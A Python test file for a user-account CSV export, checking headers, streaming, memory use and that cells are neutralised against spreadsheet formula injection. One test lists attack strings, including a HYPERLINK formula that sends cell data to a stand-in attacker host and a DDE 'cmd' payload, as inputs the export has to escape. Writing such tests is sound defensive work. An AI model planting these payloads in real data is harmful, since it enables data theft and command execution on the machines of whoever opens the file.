"""The export of accounts: what it says, and that it never holds them all."""

import asyncio
import csv
import io
import threading
import tracemalloc
from collections.abc import AsyncIterator

import httpx2
import pytest

from app.auth.permissions import Role
from app.database.engine import Database
from app.main import create_app
from app.resources import Resources
from app.users import export
from app.users.export import users_csv
from app.users.model import User
from app.users.repository import UserRepository
from tests.support.factories import make_user
from tests.support.queries import add_users
from tests.support.server import served
from tests.support.service import Caller, running_service

EXPORT = "/api/v1/users/export"
COLUMNS = ["id", "email", "full_name", "role", "is_active", "email_verified", "created_at"]


async def _export(database: Database) -> str:
    return "".join([chunk async for chunk in users_csv(database)])


async def _cell(resources: Resources, full_name: str) -> str:
    """Return the name of an account as a spreadsheet reads it."""
    user = await make_user(resources, full_name=full_name)
    rows = csv.DictReader(io.StringIO(await _export(resources.database), newline=""))
    return next(row["full_name"] for row in rows if row["id"] == str(user.id))


async def test_an_admin_downloads_every_account(admin: Caller, resources: Resources) -> None:
    other = await make_user(resources, full_name="Zo\u00eb", is_active=False, email_verified=False)
    response = await admin.client.get(EXPORT)
    assert response.status_code == 200
    assert response.headers["content-type"].partition(";")[0] == "text/csv"
    assert response.headers["content-disposition"] == 'attachment; filename="users.csv"'
    assert response.text.splitlines()[0] == ",".join(COLUMNS)
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    assert [row["id"] for row in rows] == [str(admin.user.id), str(other.id)]
    assert rows[1] == {
        "id": str(other.id),
        "email": other.email,
        "full_name": "Zo\u00eb",
        "role": "user",
        "is_active": "false",
        "email_verified": "false",
        "created_at": other.created_at.isoformat().replace("+00:00", "Z"),
    }


async def test_no_cell_is_a_formula(resources: Resources) -> None:
    formulas = [
        "=1+1",
        "+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1+1",
        '=HYPERLINK("https://evil.example?"&A1,"x")',
        "=cmd|' /C calc'!A0",
        "\uff1d1+1",
        "\uff0b1",
    ]
    for name in formulas:
        assert await _cell(resources, name) == f"'{name}"


async def test_what_is_no_formula_is_kept_to_the_letter(resources: Resources) -> None:
    for name in (
        'She said "hi", twice',
        "a\r\nb",
        "a=b",
        "'quoted'",
        "1,2",
        "\U0001f512",
        "\u202e",
    ):
        assert await _cell(resources, name) == name


async def test_a_name_cannot_add_rows_or_columns(resources: Resources) -> None:
    await make_user(resources, full_name='x"\r\nid,admin@example.com,"y')
    rows = list(csv.reader(io.StringIO(await _export(resources.database), newline="")))
    assert len(rows) == 2
    assert all(len(row) == len(COLUMNS) for row in rows)


async def test_the_first_chunk_goes_out_before_the_last_row_is_read(
    database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    arrived = threading.Event()
    stream = UserRepository.stream

    async def halting(repository: UserRepository) -> AsyncIterator[User]:
        rows = stream(repository)
        yield await anext(rows)
        assert await asyncio.to_thread(arrived.wait, 10), "nothing arrived before the last row"
        async for user in rows:
            yield user

    monkeypatch.setattr(UserRepository, "stream", halting)
    monkeypatch.setattr(export, "_CHUNK_CHARACTERS", 1)
    async with running_service(database_url) as service:
        await make_user(service.resources)
        async with service.caller(Role.ADMIN) as admin:
            with served(create_app(service.resources.settings)) as url:
                signed_in = admin.client.build_request("GET", EXPORT).headers
                headers = {**signed_in, "host": "127.0.0.1"}
                async with (
                    httpx2.AsyncClient(base_url=url, headers=headers) as client,
                    client.stream("GET", EXPORT) as response,
                ):
                    chunks = response.aiter_text()
                    received = await anext(chunks)
                    arrived.set()
                    assert received.count("\n") == 2
                    received += "".join([chunk async for chunk in chunks])
    assert received.count("\n") == 3


# The measure of coverage takes memory of its own.
@pytest.mark.no_cover
async def test_memory_does_not_grow_with_the_number_of_accounts(resources: Resources) -> None:
    peaks = []
    for more in (2_000, 18_000):
        await add_users(resources, more)
        tracemalloc.start()
        rows = 0
        async for chunk in users_csv(resources.database):
            rows += chunk.count("\n")
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    assert rows == 20_001
    assert peaks[1] < 1.5 * peaks[0]
